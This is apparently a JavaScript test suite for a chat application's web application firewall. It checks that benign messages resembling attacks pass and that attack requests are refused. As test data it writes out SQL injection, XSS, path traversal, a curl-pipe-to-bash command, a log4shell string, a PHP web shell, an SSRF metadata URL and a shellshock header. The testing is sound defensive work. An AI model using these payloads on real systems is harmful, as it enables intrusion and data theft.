import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { Api, password } from "./support/api.mjs";
import { Server } from "./support/server.mjs";
import { exceptionRules, Waf, withWaf } from "./support/waf.mjs";

/** What people write to each other about their work. */
const talk = [
  "try: SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE x; --",
  "use <script>alert(1)</script> and <img src=x onerror=alert(1)>",
  "run `curl http://example.com/y.sh | bash; cat /etc/passwd`",
  "cd ../../../../etc and open /etc/passwd",
  `\${jndi:ldap://example.com/a} is how log4shell looked`,
  "<?php system($_GET['c']); ?>",
  "O'Neill's query: ' UNION SELECT password FROM users --",
  "http://169.254.169.254/latest/meta-data/ answers nobody here",
];

/** nginx itself refuses a path that leaves its root. */
const refusals = { "a path upwards": 400 };
const sqli = "1' UNION SELECT password FROM users--";
const xss = "<script>alert(1)</script>";

describe("behind a web application firewall", withWaf, () => {
  const server = new Server({}, { behindWaf: false });
  const waf = new Waf();
  let ann;
  let channel;
  let workspace;
  before(async () => {
    await server.start();
    await waf.start(server.address);
    ann = await Api.signUp(waf.url, { username: "ann", displayName: "Ann Lee", workspaceName: "Acme" });
    [workspace] = (await ann.get("/api/v1/me")).workspaces;
    channel = (await ann.get("/api/v1/sync")).channels[0].channel;
  });
  after(async () => {
    await waf.dispose();
    await server.dispose();
  });

  for (const text of talk) {
    test(`people may say ${text}`, async () => {
      const posted = await ann.say(channel.id, text);

      const edited = await ann.patch(`/api/v1/channels/${channel.id}/messages/${posted.seq}`, { text: `${text} (edited)` });
      await ann.put(`/api/v1/channels/${channel.id}/draft`, { text, threadSeq: null });
      await ann.patch(`/api/v1/channels/${channel.id}`, { topic: text });
      const found = await ann.get(`/api/v1/workspaces/${workspace.id}/search?q=${encodeURIComponent(`"${text.replaceAll('"', "")}"`)}`);

      assert.ok(posted.seq > 0);
      assert.ok(edited !== undefined);
      assert.ok(found !== undefined);
    });
  }

  test("a password may look like an attack", async () => {
    const secret = `${sqli} ${xss}`;
    await ann.put("/api/v1/me/password", { currentPassword: password, newPassword: secret });

    assert.ok(await Api.signIn(waf.url, "ann", secret));
  });

  test("the event stream's handshake passes", async () => {
    const socket = new (await import("node:net")).Socket();
    const { hostname, port } = new URL(waf.url);
    const answer = await new Promise((resolve, reject) => {
      socket.once("data", (data) => resolve(data.toString("latin1")));
      socket.once("error", reject);
      socket.connect(Number(port), hostname, () =>
        socket.write(
          `GET /api/v1/events HTTP/1.1\r\nHost: ${hostname}:${port}\r\nOrigin: ${waf.url}\r\nUser-Agent: test\r\nAccept: */*\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
            "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        ),
      );
    });
    socket.destroy();

    assert.match(answer, /^HTTP\/1\.1 101 /);
  });

  /** Attacks where nobody writes text: name, method, path, headers, body. */
  const attacks = [
    ["SQL in a query", "GET", `/api/v1/me?x=${encodeURIComponent(sqli)}`],
    ["a script in a query", "GET", `/?next=${encodeURIComponent(xss)}`],
    ["a path in a query", "GET", `/api/v1/sync?file=${encodeURIComponent("../../../../etc/passwd")}`],
    ["a path upwards", "GET", "/assets/..%2f..%2f..%2fetc%2fpasswd"],
    ["a shell in a query", "GET", `/api/v1/me?x=${encodeURIComponent("; cat /etc/passwd | sh")}`],
    ["shellshock in a header", "GET", "/", { "X-Api": "() { :; }; /bin/cat /etc/passwd" }],
    ["SQL in a cookie", "GET", "/", { Cookie: `session=${encodeURIComponent(sqli)}` }],
    ["a scanner", "GET", "/", { "User-Agent": "sqlmap/1.7" }],
    ["SQL in the body of a call that takes no text", "PUT", (ids) => `/api/v1/channels/${ids.channel}/read-marker`, {}, { seq: sqli }],
    [
      "a script in the body of a call that takes no text",
      "POST",
      (ids) => `/api/v1/workspaces/${ids.workspace}/invites`,
      {},
      { role: xss },
    ],
    ["SQL in a message's query", "POST", (ids) => `/api/v1/channels/${ids.channel}/messages/../../../me?x=${encodeURIComponent(sqli)}`],
    [
      "a script at a path that only looks like a message's",
      "POST",
      (ids) => `/api/v1/channels/${ids.channel}/messages/1/x`,
      {},
      { text: xss },
    ],
    ["SQL at a path whose id is none", "POST", () => "/api/v1/channels/x/messages", {}, { text: sqli, clientMessageId: randomUUID() }],
  ];

  for (const [name, method, path, headers = {}, body] of attacks) {
    test(`refused: ${name}`, async () => {
      const address = typeof path === "string" ? path : path({ channel: channel.id, workspace: workspace.id });

      const answer = await fetch(waf.url + address, {
        method,
        headers: { "User-Agent": "test", ...(body ? { "Content-Type": "application/json" } : {}), ...headers },
        body: body ? JSON.stringify(body) : undefined,
      });

      assert.equal(answer.status, refusals[name] ?? 403);
    });
  }

  test("its exceptions are those of the web ACL, whole paths with ids spelled out", () => {
    const lines = exceptionRules()
      .split("\n")
      .filter((line) => line.startsWith("SecRule"));

    assert.ok(lines.length >= 12);
    for (const line of lines) {
      assert.match(line, /"@rx \^\/api\/v1\/[^"]*\$"/);
      assert.doesNotMatch(line, /local\.|\.\*/);
    }
  });
});
